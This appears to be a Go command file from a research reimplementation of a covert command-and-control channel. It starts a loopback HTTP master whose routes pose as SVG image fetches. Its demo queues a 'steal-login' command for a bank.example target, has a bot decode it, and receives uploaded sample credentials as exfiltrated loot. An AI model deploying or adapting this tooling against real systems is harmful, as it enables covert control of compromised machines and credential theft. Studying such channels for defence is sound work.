// Command master runs the real-HTTP covert C&C endpoint (§VI-C) on a
// loopback or LAN socket, optionally driving a demo bot against itself.
//
//	master -listen 127.0.0.1:8944
//	master -demo            # starts a server and exercises a bot once
package main

import (
	"context"
	"flag"
	"fmt"
	"net"
	"net/http"
	"os"
	"time"

	"masterparasite/internal/cnc"
	"masterparasite/internal/daemon"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "master:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("master", flag.ContinueOnError)
	listen := fs.String("listen", "127.0.0.1:0", "listen address")
	demo := fs.Bool("demo", false, "run a self-contained bot demo and exit")
	drain := fs.Duration("drain", 10*time.Second, "graceful shutdown deadline")
	if err := fs.Parse(args); err != nil {
		return err
	}

	m := cnc.NewMasterServer()
	ln, err := net.Listen("tcp", *listen)
	if err != nil {
		return fmt.Errorf("listen: %w", err)
	}
	base := "http://" + ln.Addr().String()
	fmt.Printf("C&C master listening on %s\n", base)
	fmt.Println("routes: /meta/{bot}.svg  /img/{bot}/{id}/{seq}.svg  /batch/{bot}/{id}/{from}/{count}.svg  /up/{bot}/{stream}/{seq}/{chunk}")

	srv := &http.Server{Handler: m, ReadHeaderTimeout: 5 * time.Second}
	if !*demo {
		// Serve until SIGINT/SIGTERM, then let in-flight polls and
		// uploads finish before exiting (same helper as cmd/labd).
		return daemon.Serve(srv, ln, *drain)
	}

	done := make(chan struct{})
	go func() {
		defer close(done)
		_ = srv.Serve(ln)
	}()
	defer func() {
		_ = srv.Close()
		<-done
	}()

	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	id := m.QueueCommand("demo-bot", []byte("steal-login|bank.example"))
	fmt.Printf("queued command %d for demo-bot\n", id)

	bot := &cnc.Bot{BaseURL: base, ID: "demo-bot", Concurrency: 8}
	cmd, gotID, ok, err := bot.Poll(ctx)
	if err != nil || !ok {
		return fmt.Errorf("bot poll: ok=%v err=%w", ok, err)
	}
	fmt.Printf("bot decoded command %d from image dimensions: %q\n", gotID, cmd)

	if err := bot.Upload(ctx, "creds", []byte(`{"user":"alice","pass":"hunter2"}`)); err != nil {
		return fmt.Errorf("bot upload: %w", err)
	}
	loot, _ := m.Upload("demo-bot", "creds")
	fmt.Printf("master received exfiltrated stream 'creds': %s\n", loot)
	return nil
}
